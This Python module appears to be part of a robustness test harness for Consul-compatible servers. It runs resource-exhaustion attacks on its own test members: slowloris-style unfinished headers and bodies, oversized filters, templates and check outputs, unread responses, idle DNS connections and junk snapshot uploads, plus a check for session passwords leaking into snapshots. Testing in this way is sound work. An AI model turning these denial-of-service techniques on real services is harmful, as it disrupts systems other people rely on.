"""Attacks on the ports for Consul clients: HTTP and DNS."""

import gzip
import http.client
import json
import os
import socket
import struct
import time
import urllib.parse
import zlib

import jute
from attack_zookeeper import close_all, connections, push


def call(member, method, path, body=None, timeout=20):
    """Status and body; status 0 and why, if there is none."""
    connection = http.client.HTTPConnection(*member.http_address, timeout=timeout)
    try:
        connection.request(method, path, body if body is None or isinstance(body, bytes) else json.dumps(body))
        answer = connection.getresponse()
        return answer.status, answer.read()
    except (OSError, http.client.HTTPException) as error:
        return 0, type(error).__name__.encode()
    finally:
        connection.close()


def brief(status, body):
    return f"{status or 'no answer'} {body[:60].decode(errors='replace').strip() if status != 200 else ''}".strip()


def nested_filter(trial):
    """A filter of nested `any` over 3,000 tags, one request per member, clients gone after 3 s"""
    tags = [f"tag-{number}" for number in range(3000)]
    status, body = call(trial.leader, "PUT", "/v1/catalog/register", {
        "Node": "n", "Address": "127.0.0.9", "Service": {"Service": "wide", "Tags": tags},
    })  # fmt: skip
    if status != 200:
        return f"the service was refused: {brief(status, body)}"
    wanted = "any ServiceTags as a { any ServiceTags as b { any ServiceTags as c { a == x and b == y and c == z } } }"
    # The inner ones must be reached, or there is no work.
    wanted = wanted.replace("a == x and b == y and ", "")
    query = urllib.parse.quote(wanted)
    said = {brief(*call(member, "GET", f"/v1/catalog/service/wide?filter={query}", timeout=3)) for member in trial.ensemble.members}
    time.sleep(3)
    return "; ".join(sorted(said))


def template(trial):
    """A prepared query with a template of 6 MB that names its long name 500,000 times"""
    status, body = call(trial.leader, "POST", "/v1/query", {
        "Name": "big", "Template": {"Type": "name_prefix_match"}, "Service": {"Service": "${name.full}" * 500_000},
    })  # fmt: skip
    if status != 200:
        return f"refused: {brief(status, body)}"
    name = "big" + "x" * 2400
    said = [brief(*call(trial.leader, "GET", f"/v1/query/{name}/{what}")) for what in ("explain", "execute")]
    return f"taken; explain: {said[0]}; execute: {said[1]}"


def check_output(trial):
    """20 checks that ask for an OutputMaxSize of 1 GB, and outputs of 6 MB"""
    taken, until = 0, time.monotonic() + 15
    for number in range(20):
        if time.monotonic() > until:
            break
        call(trial.follower, "PUT", "/v1/agent/check/register", {
            "Name": f"c{number}", "TTL": "10m", "OutputMaxSize": 1 << 30,
        })  # fmt: skip
        status, _ = call(trial.follower, "PUT", f"/v1/agent/check/update/c{number}", {
            "Status": "passing", "Output": "x" * 6_000_000,
        })  # fmt: skip
        taken += status == 200
    time.sleep(5)
    status, body = call(trial.follower, "GET", "/v1/agent/checks")
    return f"{taken} outputs taken, {len(body) >> 10} KiB of checks afterwards"


def heads(trial):
    """1,500 connections with a head of 300 KB that does not end"""
    made = connections(trial.follower.http_address, 1500)
    taken = push(made, b"GET / HTTP/1.1\r\n" + b"".join(b"X-%05d: %s\r\n" % (n, b"x" * 3000) for n in range(100)), 10)
    time.sleep(2)
    close_all(made)
    return f"{len(made)} connections, {taken >> 20} MiB sent"


def bodies(trial):
    """150 PUTs of 8 MB each that lack the last byte"""
    made = connections(trial.follower.http_address, 150)
    size = 8 << 20
    head = f"PUT /v1/txn HTTP/1.1\r\nHost: x\r\nContent-Length: {size}\r\n\r\n".encode()
    taken = push(made, head + b"x" * (size - 1), 15)
    time.sleep(2)
    close_all(made)
    return f"{len(made)} connections, {taken >> 20} MiB sent"


def unread_answers(trial):
    """100 connections that ask for 30 MB each and read none of it"""
    for number in range(60):
        call(trial.leader, "PUT", f"/v1/kv/wide/{number}", b"x" * 500_000)
    made = connections(trial.follower.http_address, 100)
    push(made, b"GET /v1/kv/wide/?recurse&stale HTTP/1.1\r\nHost: x\r\n\r\n", 5)
    time.sleep(4)
    close_all(made)
    return f"{len(made)} connections"


def dns_idle(trial):
    """1,000 idle DNS connections over TCP, and an honest one beside"""
    member = trial.follower
    if not member.dns or member.dns == "off":
        return "DNS is off"
    made = connections(member.dns_address, 1000)
    time.sleep(1)
    question = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"\6consul\7service\6consul\0" + struct.pack(">HH", 1, 1)
    begun = time.monotonic()
    try:
        with socket.create_connection(member.dns_address, 3) as honest:
            honest.settimeout(3)
            honest.sendall(struct.pack(">H", len(question)) + question)
            honest.recv(2)
            said, broken = f"answered in {(time.monotonic() - begun) * 1000:.0f} ms", []
    except OSError as error:
        said, broken = f"not answered: {type(error).__name__}", ["an honest client gets no DNS answer over TCP"]
    close_all(made)
    return f"{len(made)} idle connections; {said}", broken


def snapshot_passwords(trial):
    """GET /v1/snapshot: the password of a live session is not in it"""
    session = jute.Connection(trial.leader.zk_address, 30000, patience=10)
    session.create("/attack-secret")
    status, body = call(trial.leader, "GET", "/v1/snapshot")
    if status != 200:
        return f"refused: {brief(status, body)}"
    raw = unpacked(body)
    broken = []
    if session.password in raw or session.password.hex().encode() in raw:
        broken.append("the archive holds the password of a live session")
    return f"an archive of {len(body) >> 10} KiB", broken


def unpacked(body):
    """Everything in it, whatever is packed in what."""
    raw = body
    for _ in range(2):
        at = raw.find(b"\x1f\x8b\x08")
        if at < 0:
            break
        try:
            raw = raw + zlib.decompressobj(31).decompress(raw[at:])
            if raw[at + 3 :].find(b"\x1f\x8b\x08") < 0:
                break
        except (OSError, zlib.error, gzip.BadGzipFile):
            break
    return raw


def snapshot_put(trial):
    """PUT /v1/snapshot of nonsense, 100 MB of it, twice at once"""
    made = connections(trial.leader.http_address, 4)
    size = 100 << 20
    head = f"PUT /v1/snapshot HTTP/1.1\r\nHost: x\r\nContent-Length: {size}\r\n\r\n".encode()
    taken = push(made, head + os.urandom(1 << 20) * 99, 10)
    time.sleep(2)
    close_all(made)
    return f"{taken >> 20} MiB sent"


ATTACKS = {
    "filter": nested_filter, "template": template, "check-output": check_output, "heads": heads, "bodies": bodies,
    "unread-answers": unread_answers, "dns-idle": dns_idle, "snapshot-get": snapshot_passwords,
    "snapshot-put": snapshot_put,
}  # fmt: skip
